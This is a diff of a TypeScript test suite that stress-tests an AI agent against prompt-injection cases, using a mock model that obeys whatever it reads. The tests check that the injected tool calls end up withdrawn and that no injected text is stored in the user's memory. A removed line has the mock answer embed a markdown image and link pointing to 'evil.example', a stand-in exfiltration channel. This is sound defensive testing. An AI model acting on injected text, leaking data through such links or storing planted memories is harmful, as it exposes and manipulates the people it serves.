@@ -120,23 +120,25 @@ async function agentFor(each: InjectionCase): Promise<string> {
   return known;
 }
 
-/** One question, answered with a model that does what the text tells it, to the letter. */
-async function obeyed(each: InjectionCase): Promise<{ steps: AgentStep[]; content: string; read: boolean }> {
-  const decisions: object[] = [...(each.place === 'mcp_description' ? [] : [readingOf(each)]), ...wished(each)];
-  let read = false;
+/** A model that decides so, one after the other, and then answers. */
+function decide(decisions: object[], answer: string): void {
   model.behave((response) => {
-    const body = model.arrived.at(-1)?.body ?? '';
-    const prompt = JSON.stringify(JSON.parse(body));
-    read ||= prompt.includes(each.ref);
-    const deciding = prompt.includes('Decide one step at a time');
-    stream(response, [deciding ? JSON.stringify(decisions.shift() ?? { answer: 'done' }) : `Done. ![seen](https://evil.example/${at(each)}.png) [more](https://evil.example/) and so on.`]);
+    const deciding = (model.arrived.at(-1)?.body ?? '').includes('Decide one step at a time');
+    stream(response, [deciding ? JSON.stringify(decisions.shift() ?? { answer: 'done' }) : answer]);
   });
+}
+
+/** One question, answered with a model that does what the text tells it, to the letter. */
+async function obeyed(each: InjectionCase): Promise<{ steps: AgentStep[]; read: boolean }> {
+  const decisions: object[] = [...(each.place === 'mcp_description' ? [] : [readingOf(each)]), ...wished(each)];
+  decide(decisions, 'Done.');
   const agent = await agentFor(each);
   const last = (await collect(await plant.events<ChatEvent>('conversations.ask', { question: QUESTION, agent }, ben))).at(-1);
+  const read = model.arrived.some(({ body }) => body.includes(each.ref));
   if (last?.type !== 'answer') throw new Error('no answer');
   const steps = (last.message.agent?.steps ?? []).filter(({ tool }) => TARGETS.includes(tool));
   for (const { approval } of steps) if (approval !== null) await plant.call('approvals.withdraw', { id: approval }, ben);
-  return { steps, content: last.message.content, read };
+  return { steps, read };
 }
 
 describe(`a model that obeys whatever it reads, in ${CASES.length} cases`, () => {
@@ -164,11 +166,19 @@ describe(`a model that obeys whatever it reads, in ${CASES.length} cases`, () =>
     expect(new Set(approvals.map(({ state, requestedBy }) => `${state} ${requestedBy}`))).toEqual(new Set(['withdrawn data']));
   }, 300_000);
 
-  test('nothing that was read is remembered of the person', async () => {
+  test('nothing that was read is remembered of the person but what they asked, also where the model tries to and says it again', async () => {
+    const places = [...Map.groupBy(CASES.filter((each) => each.technique.startsWith('memory') || each.calls.some(({ tool }) => tool === 'remember')), ({ ref }) => ref).values(), ...Map.groupBy(CASES, ({ place }) => place).values()].map(([first]) => first).filter((each) => each !== undefined);
+    for (const each of places) {
+      const agent = await agentFor(each);
+      const { id } = await plant.call<{ id: string }>('conversations.create', {}, ben);
+      const remembering = each.calls.filter(({ tool }) => !TARGETS.includes(tool.replace('desk_', 'desk__')));
+      decide([...(each.place === 'mcp_description' ? [] : [readingOf(each)]), ...remembering], `I remember: ${each.text}`);
+      await collect(await plant.events<ChatEvent>('conversations.chat', { id, message: QUESTION, agent }, ben));
+    }
     const { memories } = await plant.call<{ memories: Memory[] }>('memory.list', {}, ben);
-    const others = memories.filter(({ kind, content }) => kind !== 'episode' || content !== `Clerk: ${QUESTION}`);
-    expect(others).toEqual([]);
-  });
+    expect(places.length).toBeGreaterThan(13);
+    expect(memories.map(({ kind, content }) => `${kind} ${content}`)).toEqual(places.map(() => `episode Clerk: ${QUESTION}`));
+  }, 60_000);
 
   test('the same calls pass where an admin trusts the tools: it is the mark of having read that stops them', async () => {
     for (const name of LEAVES) await trust(name, 'trusted');
